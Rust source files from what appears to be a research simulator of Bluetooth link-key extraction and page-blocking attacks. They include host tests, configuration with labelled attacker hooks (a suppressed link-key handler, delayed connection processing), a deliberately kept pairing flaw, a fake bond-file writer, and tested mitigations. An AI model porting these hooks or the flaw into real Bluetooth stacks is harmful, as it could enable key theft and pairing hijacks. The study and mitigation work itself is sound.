                services: vec![],
            },
        );
        host.on_event(now(), Event::LinkKeyRequest { bd_addr: addr(1) });
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::LinkKeyRequestReply { link_key, .. }) if *link_key == key()
        )));
    }

    #[test]
    fn link_key_request_negative_when_unbonded() {
        let mut host = connected_phone(addr(1));
        host.on_event(now(), Event::LinkKeyRequest { bd_addr: addr(1) });
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::LinkKeyRequestNegativeReply { .. })
        )));
    }

    #[test]
    fn fig9_hook_drops_link_key_request() {
        let mut host = connected_phone(addr(1));
        host.config_mut().attacker.ignore_link_key_request = true;
        host.install_bond(
            addr(1),
            BondEntry {
                name: None,
                link_key: key(),
                key_type: LinkKeyType::UnauthenticatedP256,
                services: vec![],
            },
        );
        host.on_event(now(), Event::LinkKeyRequest { bd_addr: addr(1) });
        assert!(
            host.drain_outputs().is_empty(),
            "attacker host must stay silent"
        );
    }

    #[test]
    fn auth_failure_wipes_bond_timeout_does_not() {
        for (status, expect_bond_after) in [
            (StatusCode::AuthenticationFailure, false),
            (StatusCode::LmpResponseTimeout, true),
        ] {
            let mut host = connected_phone(addr(1));
            host.install_bond(
                addr(1),
                BondEntry {
                    name: None,
                    link_key: key(),
                    key_type: LinkKeyType::UnauthenticatedP256,
                    services: vec![],
                },
            );
            host.on_event(
                now(),
                Event::AuthenticationComplete {
                    status,
                    handle: ConnectionHandle::new(3),
                },
            );
            assert_eq!(
                host.keystore().get(addr(1)).is_some(),
                expect_bond_after,
                "bond survival after {status}"
            );
        }
    }

    #[test]
    fn ploc_holds_connection_complete() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V4_2));
        host.config_mut().attacker = AttackerHooks {
            ignore_link_key_request: false,
            ploc_delay: Some(Duration::from_secs(10)),
            ploc_keepalive: true,
        };
        host.connect_only(addr(1));
        host.drain_outputs();
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(2),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        assert!(host.in_ploc(addr(1)));
        assert!(!host.is_connected(addr(1)), "host layer must not progress");
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::StartTimer {
                timer: HostTimer::PlocRelease { .. },
                ..
            }
        )));
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::StartTimer {
                timer: HostTimer::KeepAlive { .. },
                ..
            }
        )));

        // Release by timer: the held event is processed.
        host.on_timer(
            now() + Duration::from_secs(10),
            HostTimer::PlocRelease { peer: addr(1) },
        );
        assert!(!host.in_ploc(addr(1)));
        assert!(host.is_connected(addr(1)));
    }

    #[test]
    fn pairing_event_releases_ploc_early() {
        let mut host = Host::new(HostConfig::attacker());
        host.connect_only(addr(1));
        host.drain_outputs();
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(2),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        assert!(host.in_ploc(addr(1)));
        // The victim started pairing: IO capability request arrives.
        host.on_event(now(), Event::IoCapabilityRequest { bd_addr: addr(1) });
        assert!(!host.in_ploc(addr(1)), "pairing must end the hold");
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::IoCapabilityRequestReply {
                io_capability: IoCapability::NoInputNoOutput,
                ..
            })
        )));
    }

    #[test]
    fn keepalive_timer_sends_acl_and_rearms() {
        let mut host = Host::new(HostConfig::attacker());
        host.connect_only(addr(1));
        host.drain_outputs();
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(2),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        host.drain_outputs();
        host.on_timer(
            now() + Duration::from_secs(5),
            HostTimer::KeepAlive { peer: addr(1) },
        );
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(o, HostOutput::Acl(_))));
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::StartTimer {
                timer: HostTimer::KeepAlive { .. },
                ..
            }
        )));
    }

    #[test]
    fn v50_just_works_shows_yes_no_popup_without_number() {
        let mut host = connected_phone(addr(1));
        host.pair_with(addr(1));
        host.drain_outputs();
        host.on_event(
            now(),
            Event::IoCapabilityResponse {
                bd_addr: addr(1),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 2,
            },
        );
        host.on_event(
            now(),
            Event::UserConfirmationRequest {
                bd_addr: addr(1),
                numeric_value: 123456,
            },
        );
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Ui(UiNotification::PairingConfirmation { numeric: None, .. })
        )));
    }

    #[test]
    fn v42_just_works_initiator_auto_confirms() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V4_2));
        host.on_event(
            now(),
            Event::ConnectionRequest {
                bd_addr: addr(1),
                cod: ClassOfDevice::HANDS_FREE,
                link_type: 1,
            },
        );
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(3),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        host.pair_with(addr(1));
        host.drain_outputs();
        host.on_event(
            now(),
            Event::IoCapabilityResponse {
                bd_addr: addr(1),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 2,
            },
        );
        host.on_event(
            now(),
            Event::UserConfirmationRequest {
                bd_addr: addr(1),
                numeric_value: 42,
            },
        );
        let outs = host.drain_outputs();
        assert!(
            outs.iter().any(|o| matches!(
                o,
                HostOutput::Command(Command::UserConfirmationRequestReply { .. })
            )),
            "4.2- initiator must silently confirm Just Works"
        );
        assert!(!outs.iter().any(|o| matches!(
            o,
            HostOutput::Ui(UiNotification::PairingConfirmation { .. })
        )));
    }

    #[test]
    fn mitigation_blocks_page_blocking_fingerprint() {
        let mut host = connected_phone(addr(1)); // connection responder
        host.config_mut()
            .mitigations
            .reject_noio_connection_initiator = true;
        host.pair_with(addr(1)); // pairing initiator
        host.drain_outputs();
        host.on_event(
            now(),
            Event::IoCapabilityResponse {
                bd_addr: addr(1),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 2,
            },
        );
        let outs = host.drain_outputs();
        assert!(outs
            .iter()
            .any(|o| matches!(o, HostOutput::Ui(UiNotification::SecurityAlert { .. }))));
        assert!(outs
            .iter()
            .any(|o| matches!(o, HostOutput::Command(Command::Disconnect { .. }))));
    }

    #[test]
    fn mitigation_allows_normal_outbound_pairing() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V5_0));
        host.config_mut()
            .mitigations
            .reject_noio_connection_initiator = true;
        host.pair_with(addr(1)); // we initiate connection AND pairing
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(6),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        host.drain_outputs();
        host.on_event(
            now(),
            Event::IoCapabilityResponse {
                bd_addr: addr(1),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 2,
            },
        );
        let outs = host.drain_outputs();
        assert!(
            !outs
                .iter()
                .any(|o| matches!(o, HostOutput::Ui(UiNotification::SecurityAlert { .. }))),
            "legitimate accessory pairing must not be blocked"
        );
    }

    #[test]
    fn profile_connect_runs_auth_then_encryption() {
        let mut host = connected_phone(addr(1));
        host.install_bond(
            addr(1),
            BondEntry {
                name: None,
                link_key: key(),
                key_type: LinkKeyType::UnauthenticatedP256,
                services: vec![ServiceUuid::PANU],
            },
        );
        host.connect_profile(addr(1), ServiceUuid::PANU);
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::AuthenticationRequested { .. })
        )));
        host.on_event(
            now(),
            Event::AuthenticationComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(3),
            },
        );
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::SetConnectionEncryption { enable: true, .. })
        )));
        host.on_event(
            now(),
            Event::EncryptionChange {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(3),
                enabled: true,
            },
        );
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Ui(UiNotification::ProfileConnected { service, .. })
                if *service == ServiceUuid::PANU
        )));
    }

    #[test]
    fn pin_code_request_answered_from_config() {
        let mut host = connected_phone(addr(1));
        host.config_mut().pin = Some(b"4821".to_vec());
        host.on_event(now(), Event::PinCodeRequest { bd_addr: addr(1) });
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::PinCodeRequestReply { pin, .. }) if pin == b"4821"
        )));
    }

    #[test]
    fn pin_code_request_negative_without_pin() {
        let mut host = connected_phone(addr(1));
        host.config_mut().pin = None;
        host.on_event(now(), Event::PinCodeRequest { bd_addr: addr(1) });
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::PinCodeRequestNegativeReply { .. })
        )));
    }

    #[test]
    fn send_data_requires_a_processed_link() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V5_0));
        assert!(!host.send_data(addr(9), vec![1, 2, 3]));
        let mut host = connected_phone(addr(1));
        assert!(host.send_data(addr(1), vec![1, 2, 3]));
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(o, HostOutput::Acl(_))));
    }

    #[test]
    fn discovery_dedups_and_reports() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V5_0));
        host.start_discovery();
        for _ in 0..3 {
            host.on_event(
                now(),
                Event::InquiryResult {
                    bd_addr: addr(7),
                    cod: ClassOfDevice::HANDS_FREE,
                },
            );
        }
        host.on_event(
            now(),
            Event::InquiryComplete {
                status: StatusCode::Success,
            },
        );
        let outs = host.drain_outputs();
        let devices = outs
            .iter()
            .find_map(|o| match o {
                HostOutput::Ui(UiNotification::DiscoveryComplete { devices }) => {
                    Some(devices.clone())
                }
                _ => None,
            })
            .expect("discovery completes");
        assert_eq!(devices.len(), 1);
    }
}
