//! Notifications the host surfaces to its user interface.
//!
//! In the simulation these reach the scripted user agent in `blap-sim`; in
//! the paper they are the popups and toasts the victim sees (or, crucially,
//! does not see).

use blap_hci::StatusCode;
use blap_types::{BdAddr, ClassOfDevice, DeviceName, ServiceUuid};

/// A UI-visible notification from the host stack.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum UiNotification {
    /// Device discovery finished with this result list.
    DiscoveryComplete {
        /// Discovered devices, in arrival order.
        devices: Vec<(BdAddr, ClassOfDevice)>,
    },
    /// An ACL connection to `peer` is up.
    ConnectionEstablished {
        /// The connected peer.
        peer: BdAddr,
    },
    /// A connection attempt failed.
    ConnectFailed {
        /// The peer we tried to reach.
        peer: BdAddr,
        /// The failure reported by the controller.
        status: StatusCode,
    },
    /// The user must confirm a pairing.
    ///
    /// `numeric` is `Some` only when the association model actually shows a
    /// comparable value — the distinction at the heart of §V-B2: a Just
    /// Works popup (`numeric: None`) gives the user nothing to verify.
    PairingConfirmation {
        /// Peer being paired.
        peer: BdAddr,
        /// Six-digit comparison value, when one is displayed.
        numeric: Option<u32>,
    },
    /// Pairing finished.
    PairingComplete {
        /// Peer that was being paired.
        peer: BdAddr,
        /// Whether pairing succeeded.
        success: bool,
    },
    /// A link key was stored (bonding).
    BondStored {
        /// Bonded peer.
        peer: BdAddr,
    },
    /// A stored bond was invalidated (authentication failure path).
    BondLost {
        /// Peer whose bond was wiped.
        peer: BdAddr,
    },
    /// LMP authentication concluded.
    AuthenticationOutcome {
        /// Authenticated peer.
        peer: BdAddr,
        /// Resulting status.
        status: StatusCode,
    },
    /// A profile-level connection is up (e.g. PAN tethering).
    ProfileConnected {
        /// Connected peer.
        peer: BdAddr,
        /// The profile service.
        service: ServiceUuid,
    },
    /// A profile-level connection failed.
    ProfileFailed {
        /// The peer.
        peer: BdAddr,
        /// The profile service.
        service: ServiceUuid,
        /// Why it failed.
        status: StatusCode,
    },
    /// A deployed mitigation blocked something (§VII).
    SecurityAlert {
        /// The suspicious peer.
        peer: BdAddr,
        /// Human-readable reason.
        reason: String,
    },
    /// The remote name of a discovered device resolved.
    NameResolved {
        /// The device.
        peer: BdAddr,
        /// Its name.
        name: DeviceName,
    },
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn just_works_popup_has_no_numeric_value() {
        let popup = UiNotification::PairingConfirmation {
            peer: BdAddr::ZERO,
            numeric: None,
        };
        match popup {
            UiNotification::PairingConfirmation { numeric, .. } => assert!(numeric.is_none()),
            _ => unreachable!(),
        }
    }
}
