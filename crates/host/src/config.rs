//! Host stack configuration: profile switches, attacker hooks, mitigations.

use blap_types::{BtVersion, Duration, IoCapability};

/// Which real-world host stack a simulated host stands in for.
///
/// Table I of the paper lists one row per (OS, host stack, device) triple;
/// the stack kind drives dump availability and privilege semantics.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum HostStackKind {
    /// Android's Bluedroid/Fluoride stack — built-in HCI snoop log behind
    /// developer options, extractable via bug report without privileges.
    Bluedroid,
    /// Microsoft Bluetooth Driver stack on Windows — no HCI dump tool, but
    /// HCI rides USB where a software analyzer sees it.
    MicrosoftBluetoothDriver,
    /// CSR Harmony stack on Windows — same USB exposure.
    CsrHarmony,
    /// BlueZ on Linux — `bluez-hcidump` plus `/var/lib/bluetooth` bonding
    /// files, both behind superuser privilege.
    BlueZ,
    /// Apple's iOS stack — no user-accessible HCI dump at all (the paper
    /// analyzed the attacker's dump instead when testing the iPhone Xs).
    IosBluetooth,
}

impl HostStackKind {
    /// Whether the stack ships a software HCI dump facility.
    pub fn supports_hci_dump(self) -> bool {
        matches!(self, HostStackKind::Bluedroid | HostStackKind::BlueZ)
    }

    /// Whether using the stack's extraction channel requires superuser
    /// privileges (the rightmost column of Table I).
    pub fn dump_requires_superuser(self) -> bool {
        matches!(self, HostStackKind::BlueZ)
    }
}

impl std::fmt::Display for HostStackKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            HostStackKind::Bluedroid => "Bluedroid",
            HostStackKind::MicrosoftBluetoothDriver => "Microsoft Bluetooth Driver",
            HostStackKind::CsrHarmony => "CSR harmony",
            HostStackKind::BlueZ => "BlueZ",
            HostStackKind::IosBluetooth => "iOS Bluetooth",
        };
        f.write_str(s)
    }
}

/// Physical transport carrying HCI between host and controller.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum HciTransportKind {
    /// UART (H4) — integrated chipsets; snoop log is the practical tap.
    H4Uart,
    /// USB — dongles; a hardware/software USB analyzer is the tap.
    Usb,
}

/// The attacker-side stack modifications from §VI of the paper.
///
/// All default to off: an unmodified host is a victim host.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AttackerHooks {
    /// Fig 9: comment out the `HCI_Link_Key_Request` handler, so LMP
    /// authentication against us stalls into a timeout.
    pub ignore_link_key_request: bool,
    /// Fig 13: hold `HCI_Connection_Complete` processing for this long —
    /// the Physical Layer Only Connection state.
    pub ploc_delay: Option<Duration>,
    /// Keep the PLOC link alive with dummy traffic (the paper's SDP-query
    /// trick) so link supervision does not kill it.
    pub ploc_keepalive: bool,
}

/// The §VII mitigations, individually switchable for ablation.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Mitigations {
    /// §VII-B: abort pairing when we initiate pairing over a link whose
    /// *connection* was initiated by the peer and that peer advertises
    /// `NoInputNoOutput`.
    pub reject_noio_connection_initiator: bool,
    /// Long-term hardening: refuse to replace an *authenticated* bond
    /// (Numeric Comparison / Passkey) with an *unauthenticated* one (Just
    /// Works) — a downgrade no honest re-pairing of the same accessory
    /// should produce.
    pub detect_key_type_downgrade: bool,
}

/// Full host configuration.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HostConfig {
    /// Which stack this host stands in for.
    pub stack: HostStackKind,
    /// Core spec version (drives the Fig 7 popup policy generation).
    pub version: BtVersion,
    /// Local IO capability advertised during SSP.
    pub io_capability: IoCapability,
    /// Authentication requirements octet sent with the IO capability.
    pub auth_requirements: u8,
    /// HCI transport (selects which capture channel an attacker can use).
    pub transport: HciTransportKind,
    /// Whether the "Bluetooth HCI snoop log" developer option is on.
    pub snoop_enabled: bool,
    /// Whether the stack supports Secure Simple Pairing (false = pre-2.1
    /// legacy PIN pairing via E22/E21).
    pub ssp: bool,
    /// The fixed PIN used for legacy pairing (accessories typically ship
    /// "0000"); `None` refuses legacy pairing.
    pub pin: Option<Vec<u8>>,
    /// How long the host waits between PLOC keep-alive frames.
    pub keepalive_interval: Duration,
    /// Attacker modifications (off for victims).
    pub attacker: AttackerHooks,
    /// Deployed mitigations (off by default, matching the paper's testbed).
    pub mitigations: Mitigations,
}

impl HostConfig {
    /// A benign phone-style host (DisplayYesNo, Bluedroid, snoop off).
    pub fn phone(version: BtVersion) -> Self {
        HostConfig {
            stack: HostStackKind::Bluedroid,
            version,
            io_capability: IoCapability::DisplayYesNo,
            auth_requirements: 0x03, // MITM, dedicated bonding
            transport: HciTransportKind::H4Uart,
            snoop_enabled: false,
            ssp: true,
            pin: Some(b"0000".to_vec()),
            keepalive_interval: Duration::from_secs(5),
            attacker: AttackerHooks::default(),
            mitigations: Mitigations::default(),
        }
    }

    /// A benign accessory-style host (NoInputNoOutput, e.g. car-kit).
    pub fn accessory(version: BtVersion) -> Self {
        HostConfig {
            io_capability: IoCapability::NoInputNoOutput,
            auth_requirements: 0x02, // no MITM (no IO), dedicated bonding
            ..HostConfig::phone(version)
        }
    }

    /// The paper's attacker profile: Nexus 5x (Android 6 / Bluedroid) with
    /// `NoInputNoOutput` capability and all hooks armed.
    pub fn attacker() -> Self {
        HostConfig {
            io_capability: IoCapability::NoInputNoOutput,
            auth_requirements: 0x02,
            attacker: AttackerHooks {
                ignore_link_key_request: true,
                ploc_delay: Some(Duration::from_secs(10)),
                ploc_keepalive: true,
            },
            ..HostConfig::phone(BtVersion::V4_2)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stack_capabilities_match_table1() {
        assert!(HostStackKind::Bluedroid.supports_hci_dump());
        assert!(HostStackKind::BlueZ.supports_hci_dump());
        assert!(!HostStackKind::MicrosoftBluetoothDriver.supports_hci_dump());
        assert!(!HostStackKind::CsrHarmony.supports_hci_dump());
        // Only the BlueZ row of Table I carries SU privilege = Y.
        assert!(HostStackKind::BlueZ.dump_requires_superuser());
        assert!(!HostStackKind::Bluedroid.dump_requires_superuser());
    }

    #[test]
    fn presets() {
        let phone = HostConfig::phone(BtVersion::V5_0);
        assert_eq!(phone.io_capability, IoCapability::DisplayYesNo);
        assert!(phone.attacker == AttackerHooks::default());

        let attacker = HostConfig::attacker();
        assert!(attacker.attacker.ignore_link_key_request);
        assert!(attacker.attacker.ploc_delay.is_some());
        assert_eq!(attacker.io_capability, IoCapability::NoInputNoOutput);
    }
}
