//! Simulated Bluetooth host stack.
//!
//! One host implementation with per-profile behaviour switches stands in for
//! the four stacks the paper tests (Bluedroid, Microsoft Bluetooth Driver,
//! CSR Harmony, BlueZ) — the link-key-over-HCI property is identical across
//! them; what differs (dump availability, transport, privilege requirements,
//! popup policy) is configuration ([`HostConfig`]).
//!
//! The host is a deterministic state machine mirroring the design of the
//! controller crate: HCI events in, HCI commands / UI notifications /timer
//! requests out. On top of the ordinary GAP logic it carries, explicitly
//! labelled, the paper's attacker hooks and mitigations:
//!
//! * **Fig 9 hook** — [`AttackerHooks::ignore_link_key_request`]: silently
//!   drop `HCI_Link_Key_Request` so the victim's LMP authentication dies by
//!   timeout (no key invalidation) while its own host has already logged the
//!   key.
//! * **Fig 13 hook (PLOC)** — [`AttackerHooks::ploc_delay`]: postpone
//!   processing of `HCI_Connection_Complete`, holding the baseband link in a
//!   "physical layer only" state until the victim initiates pairing.
//! * **§VII-B mitigation** — [`Mitigations::reject_noio_connection_initiator`]:
//!   abort pairing when we are the pairing initiator, the peer was the
//!   *connection* initiator, and the peer advertises `NoInputNoOutput`.
//!
//! The *vulnerability itself* is deliberately present and marked in
//! [`Host::pair_with`]: an existing ACL link for the target address causes
//! the host to skip connection establishment and send the pairing request
//! down whatever link is already there.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod association;
mod config;
mod host;
pub mod keystore;
mod ui;

pub use config::{AttackerHooks, HciTransportKind, HostConfig, HostStackKind, Mitigations};
pub use host::{Host, HostOutput, HostTimer};
pub use ui::UiNotification;
