//! Persistent bonding storage — the simulated `bt_config.conf`.
//!
//! Android's Bluedroid stack stores bonds in
//! `/data/misc/bluedroid/bt_config.conf`; the paper's Fig 10 shows the fake
//! entry the attacker installs there (BDADDR section, `Name`, `Service`
//! UUID list, `LinkKey`). This module reproduces that format so the attack
//! driver literally writes a Fig 10 record.

use std::collections::BTreeMap;
use std::fmt;

use blap_types::{BdAddr, DeviceName, LinkKey, LinkKeyType, ServiceUuid};
use serde::{Deserialize, Serialize};

/// One stored bond.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct BondEntry {
    /// Remote device name, if known.
    pub name: Option<DeviceName>,
    /// The 128-bit link key.
    pub link_key: LinkKey,
    /// How the key was generated (authenticated or not).
    pub key_type: LinkKeyType,
    /// Profile services the remote supports.
    pub services: Vec<ServiceUuid>,
}

/// The bond database of one host.
///
/// Keys are ordered (`BTreeMap`) so serialization is deterministic.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyStore {
    entries: BTreeMap<BdAddr, BondEntry>,
}

/// Error from parsing a `bt_config.conf`-style text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseConfigError {
    line: usize,
    message: String,
}

impl fmt::Display for ParseConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "config parse error at line {}: {}",
            self.line, self.message
        )
    }
}

impl std::error::Error for ParseConfigError {}

impl KeyStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        KeyStore::default()
    }

    /// Looks up the bond for a peer.
    pub fn get(&self, peer: BdAddr) -> Option<&BondEntry> {
        self.entries.get(&peer)
    }

    /// Stores (or replaces) a bond.
    pub fn store(&mut self, peer: BdAddr, entry: BondEntry) {
        self.entries.insert(peer, entry);
    }

    /// Removes a bond (authentication failure path). Returns the removed
    /// entry, if any.
    pub fn remove(&mut self, peer: BdAddr) -> Option<BondEntry> {
        self.entries.remove(&peer)
    }

    /// Number of stored bonds.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Iterates over `(peer, bond)` pairs in address order.
    pub fn iter(&self) -> impl Iterator<Item = (&BdAddr, &BondEntry)> {
        self.entries.iter()
    }

    /// Serializes to the `bt_config.conf` text format of the paper's
    /// Fig 10.
    ///
    /// ```text
    /// [48:90:12:34:56:78]
    /// Name = VELVET
    /// Service = 00001115-0000-1000-8000-00805f9b34fb 00001116-...
    /// LinkKey = 71a70981f30d6af9e20adee8aafe3264
    /// KeyType = 8
    /// ```
    pub fn to_config_text(&self) -> String {
        let mut out = String::new();
        for (addr, entry) in &self.entries {
            out.push_str(&format!("[{addr}]\n"));
            if let Some(name) = &entry.name {
                out.push_str(&format!("Name = {name}\n"));
            }
            if !entry.services.is_empty() {
                let services: Vec<String> = entry.services.iter().map(|s| s.to_string()).collect();
                out.push_str(&format!("Service = {}\n", services.join(" ")));
            }
            out.push_str(&format!("LinkKey = {}\n", entry.link_key.to_hex()));
            out.push_str(&format!("KeyType = {}\n", entry.key_type as u8));
            out.push('\n');
        }
        out
    }

    /// Parses the `bt_config.conf` text format back into a store.
    ///
    /// # Errors
    ///
    /// Returns [`ParseConfigError`] on malformed sections, addresses, keys
    /// or UUIDs. Unknown keys are ignored (real files carry many more).
    pub fn from_config_text(text: &str) -> Result<Self, ParseConfigError> {
        /// Section under construction: address, name, key, key type,
        /// services.
        type PartialEntry = (
            BdAddr,
            Option<DeviceName>,
            Option<LinkKey>,
            LinkKeyType,
            Vec<ServiceUuid>,
        );
        let mut store = KeyStore::new();
        let mut current: Option<PartialEntry> = None;

        let flush = |store: &mut KeyStore,
                     current: &mut Option<PartialEntry>,
                     line: usize|
         -> Result<(), ParseConfigError> {
            if let Some((addr, name, key, key_type, services)) = current.take() {
                let link_key = key.ok_or_else(|| ParseConfigError {
                    line,
                    message: format!("section [{addr}] has no LinkKey"),
                })?;
                store.store(
                    addr,
                    BondEntry {
                        name,
                        link_key,
                        key_type,
                        services,
                    },
                );
            }
            Ok(())
        };

        for (idx, raw_line) in text.lines().enumerate() {
            let line_no = idx + 1;
            let line = raw_line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if let Some(section) = line.strip_prefix('[').and_then(|s| s.strip_suffix(']')) {
                flush(&mut store, &mut current, line_no)?;
                let addr: BdAddr = section.parse().map_err(|_| ParseConfigError {
                    line: line_no,
                    message: format!("invalid section address {section:?}"),
                })?;
                current = Some((
                    addr,
                    None,
                    None,
                    LinkKeyType::UnauthenticatedP256,
                    Vec::new(),
                ));
                continue;
            }
            let Some((key, value)) = line.split_once('=') else {
                return Err(ParseConfigError {
                    line: line_no,
                    message: format!("expected `key = value`, got {line:?}"),
                });
            };
            let (key, value) = (key.trim(), value.trim());
            let Some(entry) = current.as_mut() else {
                return Err(ParseConfigError {
                    line: line_no,
                    message: "key/value outside of a [section]".to_owned(),
                });
            };
            match key {
                "Name" => entry.1 = Some(DeviceName::new(value)),
                "LinkKey" => {
                    entry.2 = Some(value.parse().map_err(|_| ParseConfigError {
                        line: line_no,
                        message: format!("invalid LinkKey {value:?}"),
                    })?);
                }
                "KeyType" => {
                    let raw: u8 = value.parse().map_err(|_| ParseConfigError {
                        line: line_no,
                        message: format!("invalid KeyType {value:?}"),
                    })?;
                    entry.3 = LinkKeyType::from_u8(raw).ok_or_else(|| ParseConfigError {
                        line: line_no,
                        message: format!("unknown KeyType {raw}"),
                    })?;
                }
                "Service" => {
                    for uuid in value.split_whitespace() {
                        entry.4.push(uuid.parse().map_err(|_| ParseConfigError {
                            line: line_no,
                            message: format!("invalid Service UUID {uuid:?}"),
                        })?);
                    }
                }
                _ => {} // tolerate unknown keys
            }
        }
        flush(&mut store, &mut current, text.lines().count())?;
        Ok(store)
    }
}

impl<'a> IntoIterator for &'a KeyStore {
    type Item = (&'a BdAddr, &'a BondEntry);
    type IntoIter = std::collections::btree_map::Iter<'a, BdAddr, BondEntry>;

    fn into_iter(self) -> Self::IntoIter {
        self.entries.iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn velvet_addr() -> BdAddr {
        "48:90:12:34:56:78".parse().unwrap()
    }

    fn fig10_entry() -> BondEntry {
        BondEntry {
            name: Some(DeviceName::new("VELVET")),
            link_key: "71a70981f30d6af9e20adee8aafe3264".parse().unwrap(),
            key_type: LinkKeyType::UnauthenticatedP256,
            services: vec![ServiceUuid::PANU, ServiceUuid::NAP],
        }
    }

    #[test]
    fn round_trip_through_config_text() {
        let mut store = KeyStore::new();
        store.store(velvet_addr(), fig10_entry());
        let text = store.to_config_text();
        let parsed = KeyStore::from_config_text(&text).unwrap();
        assert_eq!(parsed, store);
    }

    #[test]
    fn config_text_matches_fig10_shape() {
        let mut store = KeyStore::new();
        store.store(velvet_addr(), fig10_entry());
        let text = store.to_config_text();
        assert!(text.contains("[48:90:12:34:56:78]"));
        assert!(text.contains("Name = VELVET"));
        assert!(text.contains("00001115-0000-1000-8000-00805f9b34fb"));
        assert!(text.contains("00001116-0000-1000-8000-00805f9b34fb"));
        assert!(text.contains("LinkKey = 71a70981f30d6af9e20adee8aafe3264"));
    }

    #[test]
    fn store_get_remove() {
        let mut store = KeyStore::new();
        assert!(store.is_empty());
        store.store(velvet_addr(), fig10_entry());
        assert_eq!(store.len(), 1);
        assert_eq!(
            store.get(velvet_addr()).unwrap().link_key.to_hex(),
            "71a70981f30d6af9e20adee8aafe3264"
        );
        assert!(store.remove(velvet_addr()).is_some());
        assert!(store.get(velvet_addr()).is_none());
        assert!(store.remove(velvet_addr()).is_none());
    }

    #[test]
    fn parse_rejects_malformed_input() {
        assert!(KeyStore::from_config_text("LinkKey = outside-section").is_err());
        assert!(KeyStore::from_config_text("[not-an-address]\nLinkKey = 00\n").is_err());
        assert!(KeyStore::from_config_text("[aa:bb:cc:dd:ee:ff]\nLinkKey = zz\n").is_err());
        assert!(
            KeyStore::from_config_text("[aa:bb:cc:dd:ee:ff]\nName = NoKey\n").is_err(),
            "section without LinkKey must be rejected"
        );
        assert!(KeyStore::from_config_text("[aa:bb:cc:dd:ee:ff]\njunk-line\n").is_err());
    }

    #[test]
    fn parse_tolerates_comments_and_unknown_keys() {
        let text = "# comment\n[aa:bb:cc:dd:ee:ff]\nDevClass = 1234\nLinkKey = 00112233445566778899aabbccddeeff\n";
        let store = KeyStore::from_config_text(text).unwrap();
        assert_eq!(store.len(), 1);
    }

    #[test]
    fn multiple_sections() {
        let mut store = KeyStore::new();
        store.store(velvet_addr(), fig10_entry());
        store.store(
            "00:11:22:33:44:55".parse().unwrap(),
            BondEntry {
                name: None,
                link_key: "000102030405060708090a0b0c0d0e0f".parse().unwrap(),
                key_type: LinkKeyType::AuthenticatedP256,
                services: vec![],
            },
        );
        let parsed = KeyStore::from_config_text(&store.to_config_text()).unwrap();
        assert_eq!(parsed.len(), 2);
        assert_eq!(parsed, store);
    }
